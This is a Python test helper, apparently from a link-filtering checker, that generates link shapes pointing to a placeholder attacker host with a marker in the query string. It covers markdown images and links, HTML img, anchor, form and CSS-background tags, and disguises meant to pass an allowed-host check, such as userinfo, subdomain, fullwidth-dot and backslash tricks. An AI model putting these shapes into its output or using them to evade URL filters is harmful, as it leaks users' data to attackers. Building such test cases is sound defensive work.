"""Links that lead to an attacker: as they stand in a text, as code, and made to look like one to an allowed host."""

from __future__ import annotations

from collections.abc import Sequence

from sluicegate.checks.injected import ATTACKER_HOST
from sluicegate.checks.marks import Mark

__all__ = ["link_shapes"]


def link_shapes(mark: Mark) -> Sequence[tuple[str, bool]]:
    """Each, and whether it is HTML."""
    evil, host, own = ATTACKER_HOST, mark.host, f"{mark.first}-"
    url = f"//{evil}/p.png?q={own}"
    plain = (
        f"![logo](https:{url})", f"[see here](https:{url})", f"![logo][r]\n\n[r]: https:{url}", f"<https:{url}>",
        f"https:{url}", f"[your account][r]\n\n[r]: https:{url}", f"[see here](<https:{url}>)",
        f'![logo](https:{url} "Shop")', f"[see here][1]\n\n[1]: {url}\n", f"HTTPS://{evil.upper()}/p?q={own}",
        f"www.{evil}/p?q={own}", f"ftp://{evil}/{own}", "[see here](javascript:alert%281%29)",
        # Like one to a host that is allowed.
        f"https://{host}.{evil}/{own}", f"https://{host}@{evil}/{own}", f"https://{host}:x@{evil}/{own}",
        f"https://evil{host}/{own}", f"https://{evil}/{host}/{own}", f"https://{evil}/?u=https://{host}/",
        f"[https://{host}/](https://{evil}/{own})", f"https://{evil}/#https://{host}/",
        # What a reader decodes before it follows a link.
        f"&#104;ttps:{url}", f"https://{evil.replace('.', chr(0xFF0E))}/p", f"https:\\\\{evil}\\{own}",
        f"https:/{evil}/{own}", "[see here](tg://user?id=1)",
    )  # fmt: skip
    html = (
        f'<img src="https:{url}">', f'<div style="background:url(https:{url})">offer</div>',
        f'<a href="https:{url}">your account</a>', f"<img src={url}>", f"<IMG SRC='https:{url}'>",
        f'<form action="https:{url}"><button>x</button></form>', f"<a href='https:{url}'>your account</a>",
    )  # fmt: skip
    return [*((shape, False) for shape in plain), *((shape, True) for shape in html)]
